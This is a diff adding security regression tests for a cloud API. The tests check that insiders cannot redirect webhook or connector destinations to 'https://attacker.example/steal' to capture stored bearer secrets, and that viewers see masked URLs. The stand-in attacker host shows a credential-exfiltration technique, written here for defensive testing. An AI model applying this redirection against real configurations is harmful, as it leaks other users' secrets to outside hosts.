@@ -71,4 +71,67 @@ describe('An insider', () => {
     expect(answers.filter(({ status }) => status < 400)).toEqual([]);
     expect((await cloud.main(wide.secret).get(cloud.tenant)).status).toBe(200);
   });
+
+  const HOOK = {
+    channel: 'webhook',
+    destination: 'https://hooks.example.com/s3cret-path',
+    settings: { webhook: { headers: { authorization: 'Bearer s3cret' } } },
+  };
+
+  it('13: does not learn a stored secret by another destination', async () => {
+    const { body: channel } = await cloud.main().post(`${cloud.tenant}/channels`, { ...HOOK, name: name() });
+    const permissions = { tenant: ['notifications:read', 'notifications:manage'] };
+    const manager = cloud.main(await given.key(cloud, { permissions }));
+    const path = `${cloud.tenant}/channels/${channel.id}`;
+    const destination = 'https://attacker.example/steal';
+    const { body: shown } = await manager.get(path);
+
+    for (const body of [{ destination }, { destination, settings: shown.settings }, { ...shown, destination }])
+      expect(await manager.put(path, body)).toBeProblem('secret_required', { status: 400 });
+
+    expect((await manager.get(path)).body.destination).toBe(HOOK.destination);
+    expect(JSON.stringify(shown)).not.toContain('Bearer');
+  });
+
+  it('13: does not learn the secret of a connector by another destination', async () => {
+    const deployments = `${cloud.environment}/deployments`;
+    const shape = { cloud: 'aws', region: 'us-east-1', tier: 'small', managed_tier: 'standard', cluster: 'cluster' };
+    const made = await cloud.main().post(`${deployments}/managed`, { name: name(), ...shape });
+    const id = Number(made.headers.get('ld-deployment'));
+    const end = () =>
+      cloud.rows(`update operations set status = 'succeeded', finished_at = now() where deployment_id = $1`, [id]);
+    await end();
+    await cloud.rows(`update deployment_runtimes set status = 'initialized' where deployment_id = $1`, [id]);
+    const wanted = { connector_type: 'sink', connector_key: 'http', instance_key: 'hook' };
+    expect((await cloud.main().post(`${deployments}/${id}/connectors/activate`, wanted)).status).toBeLessThan(300);
+    await end();
+    const save = (who: ApiClient, url: string, authorization: string) =>
+      who.post(`/deployments/${id}/configs/connector:sink:http`, {
+        name: 'hook',
+        values: { plugin_config: { url, headers: { authorization } } },
+      });
+    expect((await save(cloud.runtime(), 'https://service.example/in', 'Bearer s3cret')).status).toBe(201);
+    const manager = cloud.runtime(
+      await given.key(cloud, { permissions: { environment: ['deployment:config:manage'] } }),
+    );
+
+    const stolen = await save(manager, 'https://attacker.example/steal', '********');
+
+    expect(stolen).toBeProblem('secret_required', { status: 400 });
+  });
+
+  it('20: does not read secrets of webhooks as a viewer', async () => {
+    const hooks = [
+      { ...HOOK, name: name() },
+      { channel: 'slack', name: name(), destination: 'https://hooks.slack.com/services/T/B/s3cret' },
+    ];
+    const viewer = await given.person(cloud, { email: `${name()}@people.example`, member: { roles: ['viewer'] } });
+
+    for (const hook of hooks) {
+      const { body } = await cloud.main().post(`${cloud.tenant}/channels`, hook);
+      const shown = await viewer.get(`${cloud.tenant}/channels/${body.id}`);
+      expect([shown.status, shown.body.destination]).toEqual([200, `${new URL(hook.destination).origin}/********`]);
+      expect(JSON.stringify(shown.body)).not.toContain('s3cret');
+    }
+  });
 });
